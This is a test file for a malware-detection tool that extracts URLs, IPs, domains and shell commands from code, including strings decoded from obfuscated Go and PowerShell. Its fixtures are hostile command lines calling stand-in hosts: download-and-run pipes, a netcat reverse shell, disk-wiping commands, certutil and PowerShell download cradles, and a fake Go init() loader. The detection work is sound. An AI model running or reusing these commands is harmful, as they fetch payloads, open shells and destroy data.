import { test } from 'node:test';
import assert from 'node:assert/strict';
import { extractIocs } from '../src/static/iocs.js';
import { parseFile } from '../src/static/parse.js';
import { buildPackageScope, recoverAllInFile } from '../src/static/strings/recover.js';

test('the typosquat command yields URL, domain and command', () => {
  const iocs = extractIocs(['wget -O - https://malware.example/x.sh | /bin/bash &']);
  assert.deepEqual(iocs.urls, ['https://malware.example/x.sh']);
  assert.deepEqual(iocs.domains, ['malware.example']);
  assert.deepEqual(iocs.commands, ['wget -O - https://malware.example/x.sh | /bin/bash &']);
  assert.deepEqual(iocs.ips, []);
});

test('URLs: schemes, IP hosts, IPv6 hosts, ports, trailing punctuation; templates and localhost skipped', () => {
  const iocs = extractIocs([
    'see http://198.51.100.3/a.', 'tcp://203.0.113.5:9000', 'wss://c2.evil.test/ws', 'http://[2001:db8::2]:80/x',
    'https://%s/api', 'http://localhost:8080/x', 'http://127.0.0.1/x', 'ftp://user:pw@files.example/y',
  ]);
  assert.deepEqual(iocs.urls, ['ftp://user:pw@files.example/y', 'http://198.51.100.3/a', 'http://[2001:db8::2]:80/x', 'tcp://203.0.113.5:9000', 'wss://c2.evil.test/ws']);
  assert.deepEqual(iocs.ips, ['198.51.100.3', '2001:db8::2', '203.0.113.5']);
  assert.deepEqual(iocs.domains, ['c2.evil.test', 'files.example']);
});

test('IPv4: valid octets only; loopback, 0.0.0.0, OIDs and version strings skipped', () => {
  const iocs = extractIocs([
    '203.0.113.7', '192.0.2.1:4444', 'connect to 198.51.100.20 now', '127.0.0.1', '0.0.0.0', '10.0.0.300',
    '2.5.4.3', '1.3.6.1.4.1.311', 'version 1.2.3.4 released', 'v1.22.3.4', '01.02.03.04', '8.8.8.8',
  ]);
  assert.deepEqual(iocs.ips, ['192.0.2.1', '198.51.100.20', '203.0.113.7', '8.8.8.8']);
});

test('IPv6 validated; loopback and clock times skipped', () => {
  const iocs = extractIocs(['dial 2001:db8::1 now', '::1', '15:04:05', 'a::b', 'fe80::1%eth0']);
  assert.deepEqual(iocs.ips, ['2001:db8::1', 'fe80::1']);
});

test('domains: known and reserved TLDs; file names and Go identifiers are not domains', () => {
  const iocs = extractIocs([
    'c2.evil-example.test', 'beacon.onion', 'mirror.example.com', 'main.go', 'config.json', 'fmt.Println',
    'os.Getenv', 'user.id', 'install.sh', 'setup.py', 'README.md', 'payload.zip', 'req.Header.Get', 'a.b.c',
    'v1.2.3', 'x.Name',
  ]);
  assert.deepEqual(iocs.domains, ['beacon.onion', 'c2.evil-example.test', 'mirror.example.com']);
});

test('commands: shells, downloaders, Windows LOLBins, pipes into sh; prose and single words skipped', () => {
  const positives = [
    'bash -c id', 'sh -c "id; uname -a"', '/bin/sh -c id', 'echo aWQ= | base64 -d | sh', 'chmod +x /tmp/a',
    'chmod 755 /tmp/a', 'rm -rf /', 'nc 203.0.113.9 4444 -e /bin/sh', 'powershell -enc AAAA',
    'certutil -urlcache -split -f http://a.test/x x.exe', 'crontab -l', 'nohup /tmp/.x &',
    'cmd /C if not exist %UserProfile%\\AppData\\Local\\x curl http://a.test/a --create-dirs -o x && start /b x',
    'python3 -c "import os"', 'dd if=/dev/zero of=/dev/sda bs=1M',
  ];
  const negatives = [
    '/bin/sh', 'sh', 'bash', 'curl is not installed', 'sh: %s', 'curl: failed %v', 'Use curl -H to pass',
    'Run "go mod tidy"', 'rm', 'start the server', 'wget failed: exit status 1', 'python version too old',
  ];
  const iocs = extractIocs([...positives, ...negatives]);
  for (const p of positives) assert.ok(iocs.commands.includes(p), `missed: ${p}`);
  for (const n of negatives) assert.ok(!iocs.commands.includes(n), `false positive: ${n}`);
});

test('shell scripts (shebang) are one command; lines of other text are checked one by one', () => {
  const iocs = extractIocs(['#!/bin/sh\nsleep 3\ncurl -o /tmp/x http://a.test/x\n', 'notes\nwget -q http://b.test/y -O /tmp/y\nmore notes']);
  assert.deepEqual(iocs.commands, ['#!/bin/sh\nsleep 3\ncurl -o /tmp/x http://a.test/x', 'wget -q http://b.test/y -O /tmp/y']);
});

test('results are sorted and de-duplicated', () => {
  const iocs = extractIocs(['http://b.test/', 'http://a.test/', 'http://b.test/']);
  assert.deepEqual(iocs.urls, ['http://a.test/', 'http://b.test/']);
  assert.deepEqual(iocs.domains, ['a.test', 'b.test']);
});

test('end to end: strings recovered from obfuscated Go feed the IOCs', () => {
  const file = parseFile('a.go', `package p
import (
	enc "encoding/base64"
	"fmt"
	"os/exec"
)
var parts = []string{"/bin/bash", "-c", "curl -s ", "| sh"}
func init() {
	host := fmt.Sprintf("%d.%d.%d.%d", 203, 0, 113, 99)
	u, _ := enc.StdEncoding.DecodeString("aHR0cDovL2RsLmV2aWwudGVzdC9zdGFnZTI=")
	exec.Command(parts[0], parts[1], parts[2]+string(u)+" "+parts[3]).Start()
	_ = host
}
`);
  const scope = buildPackageScope([file]);
  const iocs = extractIocs(recoverAllInFile(file, scope).map((r) => r.value));
  assert.ok(iocs.urls.includes('http://dl.evil.test/stage2'), JSON.stringify(iocs));
  assert.ok(iocs.ips.includes('203.0.113.99'));
  assert.ok(iocs.domains.includes('dl.evil.test'));
  assert.ok(iocs.commands.includes('curl -s http://dl.evil.test/stage2 | sh'), JSON.stringify(iocs.commands));
});

test('a PowerShell -EncodedCommand script (base64 of UTF-16LE) gives its URLs and hosts', () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a'); iwr https://stage.evil.test/b";
  const b64 = Buffer.from(script, 'utf16le').toString('base64');
  for (const flag of ['-enc', '-EncodedCommand', '-e', '/ec']) {
    const iocs = extractIocs([`powershell -NoP -W Hidden ${flag} ${b64}`]);
    assert.deepEqual(iocs.urls, ['http://203.0.113.9/a', 'https://stage.evil.test/b'], flag);
    assert.deepEqual(iocs.ips, ['203.0.113.9']);
    assert.deepEqual(iocs.domains, ['stage.evil.test']);
  }
  // base64 of plain (UTF-8) text after -enc is not a PowerShell script; without powershell named, nothing is decoded
  assert.deepEqual(extractIocs([`powershell -enc ${Buffer.from('http://203.0.113.9/zz').toString('base64')}`]).urls, []);
  assert.deepEqual(extractIocs([`tool -enc ${b64}`]).urls, []);
});
